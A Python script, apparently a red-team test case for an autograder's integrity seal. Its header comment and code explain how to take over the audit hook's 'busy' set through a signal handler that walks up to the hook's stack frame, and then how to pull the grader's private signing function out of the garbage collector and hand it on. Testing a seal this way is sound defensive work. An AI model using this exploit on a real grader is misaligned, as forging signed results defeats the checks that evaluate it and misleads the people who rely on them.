# @include _visible_only.py
# @include _deliver.py
# Attack: a Python signal handler that fires while the seal's audit hook runs in
# the main thread gets the hook's own frame; its locals hold the hook's `busy`
# set, and a thread listed there is waved through by the hook. Then gc finds the
# signing function.
import gc
import signal
import sys
import threading
import time


def _steal_sign():
    found = {}

    def handler(signum, frame):
        while frame is not None and "busy" not in found:
            if frame.f_code.co_name == "guard" and "busy" in frame.f_locals:
                found["busy"] = frame.f_locals["busy"]
            frame = frame.f_back

    old = signal.signal(signal.SIGALRM, handler)
    signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
    try:
        end = time.monotonic() + 5
        while "busy" not in found and time.monotonic() < end:
            try:
                sys._getframe(0)  # each call runs the hook
            except Exception:  # noqa: BLE001, S110
                pass
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    busy = found.get("busy")
    if busy is None:
        return None
    me = threading.get_ident()
    busy.add(me)
    try:
        for obj in gc.get_objects():
            if (
                type(obj).__name__ == "function"
                and obj.__name__ == "sign"
                and obj.__module__ == "autograder._seal"
            ):
                return obj
    finally:
        busy.discard(me)
    return None


try:
    _sign = _steal_sign()
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
    _sign = None
print("signing function found:", _sign is not None)
if _sign is not None:
    deliver_sign(_sign)
